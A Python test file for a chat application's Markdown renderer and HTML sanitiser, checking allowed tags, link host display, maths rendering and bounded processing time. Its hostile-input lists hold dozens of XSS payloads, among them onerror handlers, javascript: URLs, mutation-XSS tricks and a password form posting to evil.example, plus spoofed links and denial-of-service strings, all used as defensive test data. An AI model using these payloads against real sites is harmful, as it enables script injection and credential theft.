"""A whole text as HTML: what it shows, and that nothing else gets through, layer by layer."""

import re
import subprocess
import sys
import time
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.rendering import code, maths
from chat.rendering.links import shown_host
from chat.rendering.markdown import Growing, render
from chat.rendering.parse import parse
from chat.rendering.sanitise import sanitise

# Written out once more, on purpose: a change of the renderer has to be made here too.
TAGS = set(
    """p h2 h3 h4 h5 h6 ul ol li blockquote hr br em strong del code pre div span a
    table thead tbody tr th td input""".split()
)
ATTRIBUTES = {
    "dir": {"p", "h2", "h3", "h4", "h5", "h6", "li", "blockquote", "pre", "td", "th", "span"},
    "class": {"div", "pre", "code", "a", "span", "td", "th", "mtd", "mtable"},
    **{name: {"a"} for name in ("href", "target", "rel")},
    **{name: {"input"} for name in ("type", "disabled", "checked")},
    "start": {"ol"},
    "data-lang": {"div"},
    "data-ext": {"div"},
}
AWAY = ("_blank", "noopener noreferrer nofollow")
CLASSES = set(
    """code code-head code-lang table plain math image-link link-host align-left align-right
    align-center line-top line-right line-bottom line-left""".split()
)


def html(text: str) -> str:
    return "".join(block.html for block in render(text))


def shown(text: str) -> str:
    """The words of the HTML, without its tags."""
    return unescape(re.sub(r"<[^>]*>", "", html(text)))


class Checker(HTMLParser):
    """Notes everything in some HTML that a page should not get."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS | maths.TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if tag in maths.TAGS and name in maths.ATTRIBUTES.get(tag, ()):
                continue
            if tag not in ATTRIBUTES.get(name, ()):
                self.faults.append(f"{tag} {name}")
            if name == "class" and not set((value or "").split()) <= CLASSES | code.CLASSES:
                self.faults.append(f"class {value}")
            if name == "href" and urlsplit(value or "").scheme not in ("http", "https", "mailto"):
                self.faults.append(f"href {value}")
        given = dict(attrs)
        if tag == "a" and (given.get("target"), given.get("rel")) != AWAY:
            self.faults.append("a without target and rel")
        if tag == "input" and "disabled" not in given:
            self.faults.append("input that can be used")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(decl)

    handle_pi = unknown_decl = handle_comment


def faults(source: str) -> list[str]:
    return Checker(source).faults


HOSTILE_HTML = """\
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" style="color:red">x</mi></math>
<math><mtext><option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='x'>">
<form><input type=password name=password formaction=http://evil.example><button>x</button></form>
<input type="text" name="q" autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x">x</a>
<a href="//evil.example">x</a>
<a href="/logout/">x</a>
<a href="https:evil.example">x</a>
<a href="http://x.y" target="_self" rel="opener" ping="http://evil.example" download>x</a>
<a href="http://x.y" hx-get="/x" data-hx-post="/y" ws-send sse-connect="/z" data-message="1">x</a>
<p id="composer" name="send" style="position:fixed" class="toast code">x</p>
<div class="code evil" data-lang="x" data-part="body" hx-swap-oob="true">x</div>
<span dir="rtl" class="link-host k evil" contenteditable>x</span>
<iframe src=http://evil.example></iframe><object data=x></object><embed src=x><base href=//x>
<meta http-equiv=refresh content="0;url=http://evil.example"><link rel=stylesheet href=//x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<details open ontoggle=alert(1)><summary>x</summary></details>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>
<textarea></textarea><title></title><xmp><img src=x onerror=alert(1)></xmp><plaintext>
</code></pre></div><script>alert(1)</script>
<video src=x onerror=alert(1)><audio src=x onerror=alert(1)><source srcset=x>
<body onload=alert(1)><html lang=x><head><frameset onload=alert(1)>
<custom-element onclick=x></custom-element><slot name=x></slot><dialog open>x</dialog>
""".splitlines()

HOSTILE_MARKDOWN = [
    *HOSTILE_HTML,
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:http://x/y)",
    "[x](//evil.example) [x](\\\\evil.example) [x](/\\evil.example) [x](https:evil.example)",
    "[x](http:///evil.example) [x](http:\\\\evil.example) [x](http://a\\@evil.example)",
    '[x](http://x.y "a\\" onclick=\\"alert(1)")',
    '[x](http://x.y/"onclick="alert(1)) [x](http://x.y/\'><img)',
    '<javascript:alert(1)> <http://x.y/"onclick=alert(1)>',
    '![x](javascript:alert(1)) !["onerror="alert(1)](http://x.y/z.png)',
    "![x](http://x.y/z.png \"a' onerror='alert(1)\")",
    "[![x](http://x.y/z.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a] ![a]",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\n<script>\n```',
    "```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)> {#composer .toast onclick=x}",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$<script>alert(1)</script>$ $\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$ $\\style{color:red}{x}$ $\\class{toast}{x}$ $\\id{x}{y}$",
    '$\\color{red;background:url(//x)}x$ $\\textcolor{red" onclick="x}{y}$',
    "$$\\begin{array}{c|c}\\hline a&b\\end{array}$$ $\\begin{aligned}a&=b\\end{aligned}$",
    "$\\unknown{<script>}$ $$<!-- $$",
    "- [ ] <input type=text>\n- [x]<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "1234567890. a\n999999999. b",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_hostile_markdown_gets_nothing_through(text: str) -> None:
    assert faults(html(text)) == []


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_hostile_markdown_gets_nothing_through_the_renderer_alone(text: str) -> None:
    assert faults("".join(piece.html for piece in parse(text))) == []


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_hostile_html_gets_nothing_through_the_sanitiser_alone(source: str) -> None:
    assert faults(sanitise(source)) == []


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_hostile_markdown_gets_nothing_through_while_it_grows(text: str) -> None:
    growing = Growing()
    for character in text:
        assert [fault for patch in growing.grow(character) for fault in faults(patch.html)] == []


def test_the_sanitiser_changes_nothing_that_the_renderer_writes() -> None:
    for text in (*SHAPES, *HOSTILE_MARKDOWN):
        for piece in parse(text):
            assert tags(sanitise(piece.html)) == tags(piece.html)


def tags(source: str) -> list[tuple[str, dict[str, str | None]]]:
    seen: list[tuple[str, dict[str, str | None]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            seen.append((tag, dict(attrs)))

    Reader().feed(source)
    return seen


@given(st.lists(st.sampled_from([*HOSTILE_MARKDOWN, "\n", "> ", "- ", "`", "$", "|", "[", "]("])))
def test_hostile_parts_together_get_nothing_through(parts: list[str]) -> None:
    assert faults(html("".join(parts))) == []


# --- what it looks like ---

SHAPES = {
    "# A\n\n###### B": '<h2 dir="auto">A</h2><h6 dir="auto">B</h6>',
    "a *b* **c** ~~d~~ `e`": (
        '<p dir="auto">a <em>b</em> <strong>c</strong> <del>d</del> <code>e</code></p>'
    ),
    "a  \nb\\\nc\nd": '<p dir="auto">a<br>\nb<br>\nc\nd</p>',
    "- a\n  - b\n- c": (
        '<ul><li dir="auto">a<ul><li dir="auto">b</li></ul></li><li dir="auto">c</li></ul>'
    ),
    "3. a\n\n4. b": (
        '<ol start="3"><li dir="auto"><p dir="auto">a</p></li>'
        '<li dir="auto"><p dir="auto">b</p></li></ol>'
    ),
    "- [x] a": '<ul><li dir="auto"><input type="checkbox" checked="" disabled=""> a</li></ul>',
    "| a | b |\n|---|--:|\n| 1 |": (
        '<div class="table"><table><thead><tr><th dir="auto">a</th>'
        '<th dir="auto" class="align-right">b</th></tr></thead><tbody><tr><td dir="auto">1</td>'
        '<td dir="auto" class="align-right"></td></tr></tbody></table></div>'
    ),
    "> a\n\n***": '<blockquote dir="auto"><p dir="auto">a</p></blockquote><hr>',
    "```Python title\nx = 1\n```": (
        '<div class="code" data-lang="python" data-ext="py"><div class="code-head">'
        '<span class="code-lang">python</span></div><pre><code><span class="n">x</span>'
        ' <span class="o">=</span> <span class="mi">1</span>\n</code></pre></div>'
    ),
    "    a <b>\n": (
        '<div class="code"><div class="code-head"></div><pre><code>a &lt;b&gt;\n</code></pre></div>'
    ),
    "```mermaid\ngraph\n```": (
        '<div class="code" data-lang="mermaid" data-ext="mmd"><div class="code-head">'
        '<span class="code-lang">mermaid</span></div><pre><code>graph\n</code></pre></div>'
    ),
    "$x^2$": '<p dir="auto"><math><msup><mi>x</mi><mn>2</mn></msup></math></p>',
    "$x^$": '<p dir="auto"><code class="math">x^</code></p>',
}


@pytest.mark.parametrize("text", SHAPES)
def test_each_construct_has_its_one_shape(text: str) -> None:
    assert html(text) == SHAPES[text]


def test_raw_html_is_shown_as_text() -> None:
    text = "<details>\n<summary>A</summary>\n\n- **b**\n\n</details>\n\n<!-- c\n\nd -->"
    assert "<summary>A</summary>" in shown(text)
    assert "<strong>b</strong>" in html(text)
    assert "<!-- c" in shown(text)
    assert "d -->" in shown(text)


def test_blocks_lie_end_to_end_over_the_whole_source() -> None:
    text = "\n# A\n\nb\n\n- c\n\n[d]: http://e.f\n"
    blocks = render(text)
    assert [block.start for block in blocks] == [0, *(block.end for block in blocks[:-1])]
    assert blocks[-1].end == len(text)
    assert [text[b.start : b.end].strip()[:3] for b in blocks] == ["# A", "b", "- c"]


# --- links and images ---


def test_a_link_shows_where_it_leads_unless_its_text_says_so() -> None:
    host = '<span class="link-host" dir="ltr">example.com</span>'
    assert host in html("[my bank](https://example.com/login)")
    assert "link-host" not in html("https://example.com/login")
    assert "link-host" not in html("[example.com](https://example.com/)")
    assert "link-host" not in html("me@example.com")
    assert host in html("[mybank.com](https://example.com/)")


def test_an_image_is_a_link_and_never_loads() -> None:
    assert html("![a *cat*](https://example.com/c.png)") == (
        '<p dir="auto"><a class="image-link" href="https://example.com/c.png" target="_blank"'
        ' rel="noopener noreferrer nofollow">a cat</a>'
        ' <span class="link-host" dir="ltr">example.com</span></p>'
    )


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://example.com:8443/a?b#c", "example.com"),
        ("HTTP://EXAMPLE.com", "example.com"),
        ("http://[::1]:80/", "[::1]"),
        ("mailto:a@b.example?subject=x", "a@b.example"),
        ("http://%D0%BF%D1%80%D0%B8%D0%BC%D0%B5%D1%80.%D1%80%D1%84/", "пример.рф"),
        ("http://аpple.com/", "xn--pple-43d.com"),
        ("http://google.com@evil.example/", None),
        ("http://google.com%40evil.example/", None),
        ("http://a\\@evil.example/", None),
        ("http://a b/", None),
        ("http://\u202eexample.com/", None),
        ("http:evil.example", None),
        ("//evil.example", None),
        ("/logout/", None),
        ("javascript:alert(1)", None),
        ("", None),
    ],
)
def test_the_host_of_a_link_is_the_one_that_a_browser_goes_to(
    address: str, host: str | None
) -> None:
    assert shown_host(address) == host


def test_hidden_characters_cannot_disguise_a_link() -> None:
    text = html("[gο\u200bogle\u202e.com\u2066](http://evil.example)")
    assert not re.search("[\u200b\u202e\u2066]", text)
    assert "evil.example</span>" in text


# --- maths ---


@pytest.mark.parametrize(
    "text",
    [
        "$a_b*c*$",
        "\\(a_b*c*\\)",
        "$$a_b*c*$$",
        "\\[a_b*c*\\]",
        "$$\na_b\n- *c*\n$$",
        "- x\n  \\[\n  a\n  + b\n\n  > c\n  \\]",
    ],
)
def test_markdown_leaves_formulas_alone(text: str) -> None:
    assert "<math" in html(text)
    assert not re.search("<em|<ul><li[^>]*>(?!x)|<blockquote|[$\\\\]", html(text))


@pytest.mark.parametrize(
    "text",
    ["it costs $5 and $10", "US$20 apples or 5$", "US$ 3 $", "`$x$`", "\\$x\\$", "    $x$", "a$"],
)
def test_money_and_code_are_no_formulas(text: str) -> None:
    assert "<math" not in html(text)
    assert "$" in html(text)


@pytest.mark.parametrize(
    "source",
    ["\\nothing", "x^", "{" * 5_000, "\\sqrt" * 5_000, "\\def\\a{\\a}\\a"],
)
def test_a_formula_that_cannot_be_parsed_shows_its_source(source: str) -> None:
    assert shown(f"${source}$") == source


def test_a_formula_as_deep_as_may_be_does_not_end_the_process() -> None:
    deep = "\\sqrt{" * (maths.FORMULA_MAX_COMMANDS // 2) + "x"
    for source in (deep, deep + "}" * (maths.FORMULA_MAX_COMMANDS // 2), "{" * 400, "\\frac" * 400):
        maths.typeset(source, display=True)


@pytest.mark.parametrize(
    "source", ["[0,1) \\cup (2,3]", "\\bigl(\\{x\\}\\bigr)" * 20, "\\sqrt[3]{x}", "(x]" * 99]
)
def test_brackets_of_different_kinds_close_each_other(source: str) -> None:
    assert "<math" in html(f"${source}$")


# Each of these once ended the process, or kept it for hours from within a library.
DEADLY = {
    "brackets in a formula": "$" + "[" * 60 + "$",
    "large brackets in a formula": "$" + "\\bigl(" * 60 + "$",
    "brackets in cells": "$\\begin{matrix}" + "\\langle &" * 60 + "\\end{matrix}$",
    "brackets that close elsewhere": "$" + "{(}" * 60 + ")" * 60 + "$",
    "brackets for good": "$" + "\\mathopen{)}" * 60 + "$",
    "mailboxes": "a@b.c " * 80_000,
    "depth": "> " * 300_000 + "a\n" + "a\n" * 300_000,
    "depth of lists": "- " * 200_000 + "a\n" + "a\n" * 200_000,
    "the end of an address": "http://a.b/" + ")" * 400_000,
    "addresses in a word": "http://a.b<" * 100_000,
}


@pytest.mark.parametrize("name", DEADLY)
def test_no_text_ends_or_stops_the_process(name: str) -> None:
    script = (
        "import sys; from chat.rendering.markdown import render;"
        "print(*(block.html for block in render(sys.stdin.read())))"
    )
    rendered = subprocess.run(
        [sys.executable, "-c", script],
        input=DEADLY[name],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    ).stdout
    words = re.compile(r"[a-z@&>]{1,}")
    text = unescape(re.sub(r"<[^>]*>", "", rendered))
    assert len(words.findall(text)) >= len(words.findall(DEADLY[name]))


# --- code ---


@pytest.mark.parametrize("name", sorted(code.LANGUAGES))
def test_highlighting_keeps_every_character(name: str) -> None:
    source = "\ufeff\n\n \tx = \"<a>\" & 'b' // 🙂 \\\n#if {{ y }} %}\n  \n"
    assert unescape(re.sub("<[^>]*>", "", code.highlight(source, name))) == source


@pytest.mark.parametrize(
    ("name", "source"),
    [("nonsense", "x = 1"), ("python", "x = 1\n" * 10_000), ("python", "x = 1;" * 1_000)],
)
def test_unknown_or_long_code_stays_plain(name: str, source: str) -> None:
    assert code.highlight(source, name) == source


HOSTILE_CODE = [
    "\n",
    " \n",
    "a\n",
    "a ",
    "/*\n",
    "{",
    '"',
    "<<A\n",
    "a[",
    "(",
    "'",
    "\\",
    "#if\n",
    "a.b ",
]


@pytest.mark.parametrize("name", ["c", "c#", "java", "python"])
def test_hostile_code_takes_a_bounded_time(name: str) -> None:
    for part in HOSTILE_CODE:
        text = part * (code.CODE_MAX_CHARS // len(part))
        lines = "\n".join(text[at : at + 990] for at in range(0, len(text) - 20, 990))
        start = time.process_time()
        code.highlight(lines[: code.CODE_MAX_CHARS], name)
        assert time.process_time() - start < 3, part


def test_only_so_much_code_is_highlighted_in_one_text() -> None:
    block = "```python\n" + "x = 1\n" * 3_000 + "```\n\n"
    coloured = ['<span class="n">' in shape.html for shape in render(block * 7)]
    assert coloured == [True] * 5 + [False] * 2


# --- nothing is lost, nothing takes long, nothing is raised ---


@given(st.text(max_size=200))
def test_any_text_renders_with_all_its_words(text: str) -> None:
    rendered = shown(text)
    for word in re.findall(r"[^\W_]{2,}", text):
        assert word in rendered or "]:" in text or "&" in text


@given(st.text(st.characters(categories=["Cs", "Cc", "Cn", "Cf", "Co"]), max_size=50))
def test_odd_characters_neither_raise_nor_break_the_encoding(text: str) -> None:
    html(text).encode()


PATHOLOGICAL = {
    "quotes": "> " * 20_000 + "a",
    "brackets": "[" * 50_000 + "]" * 50_000,
    "emphasis": "a**b" * 30_000,
    "stars": "*a _b " * 20_000 + "_ *",
    "lists": "- " * 10_000 + "a",
    "indented lists": "".join("  " * depth + "- a\n" for depth in range(1_000)),
    "a long line": "word " * 200_000,
    "columns": ("a|" * 10_000 + "\n" + "-|" * 10_000 + "\n") + "x|\n" * 3,
    "cells": "a|" * 90 + "\n" + "-|" * 90 + "\n" + "x\n" * 50_000,
    "tables": "|a|\n|-|\n" * 20_000,
    "backticks": "".join("`" * count + " " for count in range(600)),
    "links": "[a](" * 20_000,
    "link ends": "[a](b(c d " * 5_000,
    "dollars": "$a " * 50_000,
    "formulas": "\\(a " * 30_000,
    "displays": "\\[\n" * 30_000,
    "comments": "<!-- " * 20_000,
    "rules": "|" + "-" * 200_000 + "x",
    "definitions": "[a]: b\n" * 30_000,
    "blank lines": "\n" * 300_000,
    "numbers": "1. " * 5_000 + "x",
    "entities": "&" * 50_000,
    "headings": "#\n" * 60_000,
    "small blocks of code": "```python\nx = 1\n```\n" * 10_000,
    "a row of backticks": "`" * 100_000,
    "half a link": "[a](<" * 20_000,
    "crossing emphasis": "*a_" * 30_000,
    "blanks in a long block": "x " * 9_000 + " \n" * 50_000 + "a",
    "blanks in a table": "a|b\n|" + " " * 15_000 + "b",
    "ends of an address": "www.a.b/" + ")" * 50_000,
}


# So many as an open block may hold: each delta looks at all of them.
OPEN_FORMULAS = {
    "begun": "\\[\n" * 5_000,
    "begun, and broken off": "\\[\n" * 5_000 + "\n\\]",
    "begun and ended": "$$\n" * 5_000,
    "two kinds": "$$\n\\[\n" * 3_000,
}


@pytest.mark.parametrize("name", OPEN_FORMULAS)
def test_thousands_of_open_formulas_take_a_bounded_time(name: str) -> None:
    text = OPEN_FORMULAS[name]
    growing = Growing()
    growing.grow(text[:-1])
    start = time.process_time()
    growing.grow(text[-1])
    assert time.process_time() - start < 0.5


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_pathological_text_takes_a_bounded_time(name: str) -> None:
    text = PATHOLOGICAL[name]
    growing = Growing()
    start = time.process_time()
    blocks = render(text)
    for at in range(0, len(text), len(text) // 20 + 1):
        growing.grow(text[at : at + len(text) // 20 + 1])
    growing.finish()
    assert time.process_time() - start < 5
    assert growing.blocks == blocks


@pytest.mark.parametrize(
    ("deep", "shape"),
    [
        ("> " * 200 + "a", '<p dir="auto">&gt;'),
        ("- " * 200 + "a", '<p dir="auto">- - '),
        ("\n".join("  " * depth + "- a" for depth in range(120)), '<pre class="plain"'),
    ],
)
def test_what_is_nested_too_deeply_is_shown_as_it_was_written(deep: str, shape: str) -> None:
    text = f"before\n\n{deep}\n\nafter"
    assert [block.html[:18] for block in render(text)] == [
        '<p dir="auto">befo',
        shape,
        '<p dir="auto">afte',
    ]
    assert deep in shown(text)


def test_a_text_of_too_many_elements_is_shown_as_it_was_written() -> None:
    text = "# *a*\n" * 30_000
    assert [block.html[:18] for block in render(text)] == ['<pre class="plain"']
    assert shown(text) == text


def test_every_process_writes_the_same_html() -> None:
    text = "- [x] [a](http://b.c) ![d](http://e.f) $x$\n\n| a |\n|:-:|\n"
    script = "from chat.rendering.markdown import render; import sys; print(render(sys.argv[1]))"
    for _ in range(3):
        other = subprocess.run(
            [sys.executable, "-c", script, text], capture_output=True, text=True, check=True
        )
        assert other.stdout == f"{render(text)}\n"
